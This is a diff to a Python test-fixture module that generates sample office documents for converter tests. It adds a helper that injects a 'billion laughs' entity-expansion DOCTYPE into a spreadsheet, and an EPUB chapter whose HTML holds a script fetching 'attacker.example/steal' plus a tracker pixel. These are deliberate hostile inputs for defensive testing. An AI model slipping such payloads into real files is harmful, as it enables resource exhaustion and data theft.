@@ -1,6 +1,8 @@
 """Real originals made by the real tools, for the converter tests: a docx written by
-python-docx, a PDF by fpdf2, a deck by python-pptx, email by the standard library's
-``email``/``mailbox``, transcripts and a Slack export as their tools write them."""
+python-docx, a PDF by fpdf2, a deck by python-pptx, a workbook by openpyxl, a book by
+ebooklib, email by the standard library's ``email``/``mailbox``, transcripts and a Slack
+export as their tools write them, and an Outlook message saved by Outlook (``MSG``: no
+library writes one; ``samples/README.md`` says where it comes from)."""
 
 from __future__ import annotations
 
@@ -28,6 +30,8 @@ NOTE Globex weekly sync
 00:00:12.500 --> 00:00:15.000
 <v Alice Chen>Great. <private>Bob's bonus depends on it.</private></v>
 """
+
+MSG = Path(__file__).parent / "samples" / "outer.msg"
 
 SRT = """1
 00:00:01,000 --> 00:00:04,000
@@ -89,6 +93,60 @@ def write_pptx(path: Path) -> Path:
     slide.shapes.title.text = "Heron pricing review"
     slide.placeholders[1].text = "Heron per-seat price rises to $14 from January."
     deck.save(str(path))
+    return path
+
+
+def write_xlsx(path: Path) -> Path:
+    from openpyxl import Workbook
+
+    workbook = Workbook()
+    workbook.properties.creator = "Alex Kim"
+    workbook.properties.title = "Kite fleet costs"
+    workbook.properties.created = dt.datetime(2026, 9, 15, 9, 0)
+    sheet = workbook.active
+    assert sheet is not None
+    sheet.title = "Q4 budget"
+    sheet.append(["Item", "Owner", "Amount (USD)", "Due"])
+    sheet.append(["Kite van leases", "Alex Kim", 36000, dt.date(2026, 12, 1)])
+    sheet.append(["Kite fuel cards", "Maria Lopez", 8200.0, None])
+    workbook.create_sheet("Empty")
+    workbook.save(str(path))
+    return path
+
+
+def xlsx_with_entities(path: Path) -> Path:
+    """openpyxl's workbook with an entity-expansion ("billion laughs") DOCTYPE put before
+    its sheet's XML by hand (no spreadsheet program writes one)."""
+    real = zipfile.ZipFile(write_xlsx(path.with_suffix(".real.xlsx")))
+    laughs = b'<!DOCTYPE s [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
+    with zipfile.ZipFile(path, "w") as out:
+        for info in real.infolist():
+            data = real.read(info)
+            out.writestr(info, laughs + data if info.filename.endswith("sheet1.xml") else data)
+    return path
+
+
+def write_epub(path: Path) -> Path:
+    from ebooklib import epub
+
+    book = epub.EpubBook()
+    book.set_identifier("urn:uuid:kite-driver-manual")
+    book.set_title("Kite driver manual")
+    book.set_language("en")
+    book.add_author("Priya Shah")
+    book.add_metadata("DC", "date", "2026-06-15")
+    chapter = epub.EpubHtml(title="Returns", file_name="returns.xhtml", lang="en")
+    chapter.content = (
+        "<html><body><h1>Returns</h1><p>Kite drivers return the van keys to the Aurora "
+        "depot by 19:00.</p><script>fetch('https://attacker.example/steal')</script>"
+        '<img src="https://tracker.example/pixel.png"/></body></html>'
+    )
+    book.add_item(chapter)
+    book.toc = [chapter]
+    book.add_item(epub.EpubNcx())
+    book.add_item(epub.EpubNav())
+    book.spine = ["nav", chapter]
+    epub.write_epub(str(path), book)
     return path
 
 
